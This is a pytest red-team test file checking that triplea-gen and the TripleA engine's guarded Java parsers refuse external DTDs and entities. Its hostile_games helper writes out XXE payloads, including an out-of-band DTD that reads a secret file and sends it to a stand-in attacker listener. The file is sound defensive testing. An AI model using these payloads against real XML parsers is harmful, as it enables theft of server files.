"""Red team: `engine check` / `engine play` never let the 1.9 engine's Java parser fetch a DTD
or entity. A local listener stands for the attacker's server and a local secret file for
what it wants; before the fix the engine fetched the DTD, sent the secret to the listener and
printed it in its FAIL message. Two layers are tested: triplea-gen's own read refuses the
file before Java sees it, and the JVM's guarded parser refuses it when handed it directly."""
from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

from conftest import REPO, requires_current_engine, requires_engine
from generator.engine import harness
from redteam.xml_shapes import encoded, game_text, with_doctype

pytestmark = [pytest.mark.engine, requires_engine]


class Listener:
    """An HTTP server on 127.0.0.1 that answers every request with `dtd` and records it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.requests: list[bytes] = []
        self.dtd = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(5)
                try:
                    self.requests.append(connection.recv(65536))
                    connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: application/xml-dtd\r\n\r\n" + self.dtd)
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    text = f"SECRET-{secrets.token_hex(8)}"
    path = tmp_path / "secret.txt"
    path.write_text(text + "\n")
    return path, text


def hostile_games(folder: Path, listener: Listener, secret_path: Path) -> list[Path]:
    """Game files that make a DTD-reading parser fetch from the listener, each as UTF-8 and UTF-16."""
    url = f"http://127.0.0.1:{listener.port}"
    # Parameter entities that read the secret and send it back in a URL: the classic out-of-band leak.
    exfiltrating = (f'<!ENTITY % secret SYSTEM "file://{secret_path}">\n'
                    f'<!ENTITY % send "<!ENTITY &#x25; leak SYSTEM \'{url}/leak?%secret;\'>">\n%send;\n%leak;\n')
    listener.dtd = exfiltrating.encode()
    dtd_file = folder / "evil.dtd"
    dtd_file.write_text(exfiltrating)
    doctypes = {
        "http_dtd": f'<!DOCTYPE game SYSTEM "{url}/game.dtd">',
        "file_dtd": f'<!DOCTYPE game SYSTEM "file://{dtd_file}">',
        "public_id": f'<!DOCTYPE game PUBLIC "-//TripleA//Game//EN" "{url}/public.dtd">',
        "parameter_entity": f'<!DOCTYPE game SYSTEM "game.dtd" [<!ENTITY % remote SYSTEM "{url}/pe.dtd"> %remote;]>',
        "file_entity": f'<!DOCTYPE game SYSTEM "game.dtd" [<!ENTITY leak SYSTEM "file://{secret_path}">]>',
    }
    games = []
    for name, doctype in doctypes.items():
        text = with_doctype(doctype, "&leak;" if name == "file_entity" else "")
        for encoding in ("utf-8", "utf-16"):
            path = folder / f"{name}_{encoding}.xml"
            path.write_bytes(encoded(text, encoding))
            games.append(path)
    malformed = folder / "malformed_http_dtd.xml"  # the DTD comes before the error a parser finds
    malformed.write_text(with_doctype(doctypes["http_dtd"])[:-200], encoding="utf-8")
    games.append(malformed)
    return games


def run_cli(*arguments: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "generator", *arguments], capture_output=True, text=True,
                          timeout=300, env={**os.environ, "PYTHONPATH": str(REPO)})


def test_engine_check_and_play_never_fetch_a_dtd_or_entity(tmp_path: Path, listener: Listener, secret):
    secret_path, secret_text = secret
    games = hostile_games(tmp_path, listener, secret_path)
    checked = run_cli("engine", "check", *map(str, games))
    played = run_cli("engine", "play", str(games[0]), "--rounds", "1")
    assert listener.requests == []
    for finished in (checked, played):
        assert secret_text not in finished.stdout + finished.stderr
        assert "Traceback" not in finished.stderr
    assert checked.returncode == 1
    lines = checked.stdout.splitlines()
    assert len(lines) == len(games)
    for game, line in zip(games, lines):
        assert line.startswith(f"FAIL {game}: not given to the engine: {game}:"), line
        assert "error[TG01" in line  # a located TG code of triplea-gen's own reader
    assert played.returncode == 2
    assert f"{games[0]}:2:1: error[TG018]: DOCTYPE names" in played.stderr


def test_the_engine_jvm_refuses_them_even_when_handed_them_directly(tmp_path: Path, listener: Listener, secret):
    # Defence in depth: the files go to the harness without triplea-gen's read; the guarded
    # parser of the JVM still opens nothing, and a good game beside them still loads.
    secret_path, secret_text = secret
    games = hostile_games(tmp_path, listener, secret_path)
    good = tmp_path / "good.xml"
    good.write_text(game_text(), encoding="utf-8")
    with tempfile.TemporaryDirectory() as home:
        command = harness.java_command(harness.harness_classes(), harness.HARNESS_CLASS,
                                       ["check", *map(str, games), str(good)], home)
        finished = harness.run_bounded(command, cwd=harness.engine_jar().parent, timeout=300)
    assert listener.requests == []
    assert secret_text.encode() not in finished.stdout + finished.stderr
    verdicts = {Path(result["path"]).name: result for result in json.loads(finished.stdout)["results"]}
    assert verdicts["good.xml"]["ok"], verdicts["good.xml"]["error"]
    for game in games:
        verdict = verdicts[game.name]
        if game.name.startswith(("http_dtd", "file_dtd", "public_id", "malformed")):
            assert "triplea-gen refused to let the engine read the external DTD" in verdict["error"], game.name
        elif game.name.startswith("file_entity"):  # external entities are off: the reference is an error
            assert 'The external entity reference "&leak;" is not permitted' in verdict["error"], game.name
        else:  # external parameter entities are off: the reference is skipped, nothing is read
            assert game.name.startswith("parameter_entity") and verdict["ok"], game.name


def test_every_java_command_carries_the_guard_after_the_callers_options(tmp_path: Path):
    command = harness.java_command(tmp_path, "some.Main", ["x"], tmp_path,
                                   options=("-Djavax.xml.accessExternalDTD=all",))
    guard = list(harness.XML_GUARD_PROPERTIES)
    start = command.index(guard[0])
    assert command[start:start + len(guard)] == guard
    assert command.index("-Djavax.xml.accessExternalDTD=all") < command.index("-Djavax.xml.accessExternalDTD=")
    class_path = command[command.index("-cp") + 1].split(os.pathsep)
    assert class_path[0] == str(harness.xml_guard_classes())
    assert (harness.xml_guard_classes() / "tripleagen" / "guard" / "GuardedDocumentBuilderFactory.class").is_file()


def test_without_the_guarded_factory_the_jdk_properties_alone_open_nothing(tmp_path: Path, listener: Listener,
                                                                           secret):
    # The second layer: were the factory not picked up, the closed JDK access still refuses
    # every DTD, and fails closed (even game.dtd from the jar) rather than open.
    secret_path, secret_text = secret
    games = hostile_games(tmp_path, listener, secret_path)
    with tempfile.TemporaryDirectory() as home:
        command = harness.java_command(harness.harness_classes(), harness.HARNESS_CLASS,
                                       ["check", *map(str, games)], home)
        factory = [part for part in command if part.startswith("-Djavax.xml.parsers.DocumentBuilderFactory=")]
        assert len(factory) == 1
        command.remove(factory[0])
        finished = harness.run_bounded(command, cwd=harness.engine_jar().parent, timeout=300)
    assert listener.requests == []
    assert secret_text.encode() not in finished.stdout + finished.stderr
    for result in json.loads(finished.stdout)["results"]:
        assert not result["ok"] and "access is not allowed due to restriction set by the accessExternalDTD" in \
            result["error"], result


@pytest.mark.engine_current
@requires_current_engine
def test_the_2x_engine_jvm_opens_nothing_either(tmp_path: Path, listener: Listener, secret):
    # TripleA 2.x reads games with StAX, not DOM: the guard names a StAX factory with DTDs and
    # external entities off for it (engines.current_engine's guard_properties). Handed the hostile
    # files directly, its parser opens nothing and leaks nothing; a good game beside them loads.
    secret_path, secret_text = secret
    games = hostile_games(tmp_path, listener, secret_path)
    good = tmp_path / "good.xml"
    good.write_text(game_text(), encoding="utf-8")
    engine = harness.resolve_engine("current")
    with tempfile.TemporaryDirectory() as home:
        command = harness.java_command(harness.harness_classes(engine), engine.harness_class,
                                       ["check", *map(str, games), str(good)], home, engine=engine,
                                       watch_parent=False)  # run here, not through run_bounded's pipe
        assert "-Djavax.xml.stream.XMLInputFactory=tripleagen.guard.GuardedXMLInputFactory" in command
        finished = subprocess.run(command, cwd=engine.working_dir, capture_output=True, timeout=300)
    assert listener.requests == []
    assert secret_text.encode() not in finished.stdout + finished.stderr
    verdicts = {Path(result["path"]).name: result for result in json.loads(finished.stdout)["results"]}
    assert verdicts["good.xml"]["ok"], verdicts["good.xml"]["error"]
    # A reader without DTDs passes the undeclared &leak; over (no entity is replaced): whatever each
    # verdict, nothing was fetched or read, as asserted above.
    assert set(verdicts) == {game.name for game in games} | {"good.xml"}
